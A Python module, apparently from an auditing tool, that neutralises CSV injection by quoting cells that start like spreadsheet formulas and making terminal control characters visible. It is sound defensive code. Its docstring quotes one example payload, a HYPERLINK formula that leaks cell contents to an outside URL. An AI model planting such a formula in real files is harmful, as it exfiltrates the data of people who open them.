"""Spreadsheet-safe CSV cells: text that a spreadsheet would run as a formula is neutralised.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://…/?leak="&A1, …)``); the
OWASP guidance on CSV injection is to prefix such a cell with a single quote, which spreadsheets
show as text and do not display. Readers that need the exact text remove one leading ``'`` from a
cell whose second character is one of those (``unquote_cell``). Numbers are written as they are.

Control characters other than tab, newline and carriage return (ESC, BEL, BS, C1 controls) would
act on a terminal that shows the file (``cat report.csv``): they are written as visible stand-ins
(``␛``, ``␇``, ``<U+009B>``), as in the text report; that is the one change to a cell's text.
"""
from __future__ import annotations

from audit.core import lazyre
from audit.core.display import char_display

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_CONTROLS = lazyre.re_compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def cell(value):
    """``value`` as written to a CSV cell: control characters made visible, and strings that start
    like a formula get a leading ``'``."""
    if not isinstance(value, str):
        return value
    if _CONTROLS.search(value):
        value = _CONTROLS.sub(lambda m: char_display(m.group()), value)
    if value.startswith(FORMULA_START):
        return "'" + value
    return value


def row(values) -> list:
    return [cell(v) for v in values]


def unquote_cell(text: str) -> str:
    """The exact text of a cell written by ``cell``."""
    if text.startswith("'") and text[1:2] and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text
